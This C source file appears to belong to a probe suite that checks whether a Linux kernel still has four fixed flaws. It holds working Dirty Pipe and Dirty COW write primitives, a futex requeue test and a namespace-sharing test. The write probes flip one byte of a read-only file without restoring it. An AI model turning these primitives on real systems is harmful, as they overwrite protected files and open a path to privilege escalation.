/* Faults of kernels that are fixed in every kernel that should still run: where the fix is in, an attempt is absent,
 * outside as inside. They are here for the kernel that lacks it. Each works on a file that it may only read. */
#include "probe.h"

#include <fcntl.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>

enum { PIPE_PAGES = 16, TRIES = 2000 };

/* The file of --file or, where that is not to be seen, the probe itself. */
static int reader(void) {
    int fd = open(workspace_file(), O_RDONLY | O_CLOEXEC);
    return fd < 0 ? open("/proc/self/exe", O_RDONLY | O_CLOEXEC) : fd;
}
/* A byte that means nothing: the last of an ELF's identification, or one of a text. */
static off_t harmless(int fd) {
    struct stat status;
    return fstat(fd, &status) == 0 && status.st_size > 4096 ? 15 : 1;
}

/* A page of a file that was spliced into a pipe kept the mark that says: append here. What is written then is written
 * over the page (Dirty Pipe). */
static int write_through_pipe(void) {
    static char block[4096];
    int ends[2], fd = reader();
    char before, after, changed;
    if (fd < 0 || pipe(ends) < 0) return errno;
    for (int i = 0; i < PIPE_PAGES; i++) {
        if (write(ends[1], block, sizeof block) != (ssize_t)sizeof block) return errno;
    }
    for (int i = 0; i < PIPE_PAGES; i++) {
        if (read(ends[0], block, sizeof block) != (ssize_t)sizeof block) return errno;
    }
    off_t at = harmless(fd), offset = at - 1;
    if (pread(fd, &before, 1, at) != 1) return errno;
    if (syscall(SYS_splice, fd, &offset, ends[1], NULL, 1ul, 0u) < 0) return errno;
    changed = (char)(before ^ 1);
    if (write(ends[1], &changed, 1) != 1 || pread(fd, &after, 1, at) != 1) return errno;
    return after == before ? ENOSYS : 0;
}

/* A private page that is given up while it is written was written in the file (Dirty COW). */
static void *give_up(void *page) {
    for (int i = 0; i < TRIES; i++) madvise(page, 4096, MADV_DONTNEED);
    return NULL;
}
static int write_through_memory(void) {
    pthread_t thread;
    char before, after;
    int fd = reader(), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd < 0 || memory < 0) return errno;
    off_t at = harmless(fd);
    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (page == MAP_FAILED || pread(fd, &before, 1, at) != 1) return errno;
    char changed = (char)(before ^ 1);
    if (pthread_create(&thread, NULL, give_up, page) != 0) return EAGAIN;
    for (int i = 0; i < TRIES; i++) {
        if (pwrite(memory, &changed, 1, (off_t)(uintptr_t)page + at) < 0) break;
    }
    pthread_join(thread, NULL);
    if (pread(fd, &after, 1, at) != 1) return errno;
    return after == before ? ENOSYS : 0;
}

/* Requeueing to the same futex was not refused. */
static int requeue_to_itself(void) {
    static uint32_t word;
    long answer = syscall(SYS_futex, &word, FUTEX_CMP_REQUEUE_PI, 1, 0ul, &word, 0);
    return answer < 0 && errno == EINVAL ? ENOSYS : outcome(answer);
}

/* A child that shares its parent's folders and has all capabilities of a new namespace changed the parent's root. */
static int shared_folder(void) {
    long child = syscall(SYS_clone, CLONE_NEWUSER | CLONE_FS | SIGCHLD, NULL, NULL, NULL, NULL);
    if (child == 0) _exit(0);
    if (child < 0) return errno == EINVAL ? ENOSYS : errno;
    waitpid((pid_t)child, NULL, 0);
    return 0;
}
const struct attempt fixed_attempts[] = {
    {"write-through-pipe", write_through_pipe, 0, "CVE-2022-0847"},
    {"write-through-own-memory", write_through_memory, 0, "CVE-2016-5195"},
    {"futex-requeue-to-itself", requeue_to_itself, 0, "CVE-2014-3153"},
    {"user-namespace-sharing-folders", shared_folder, 0, "CVE-2013-1858"},
    {NULL, NULL, 0},
};
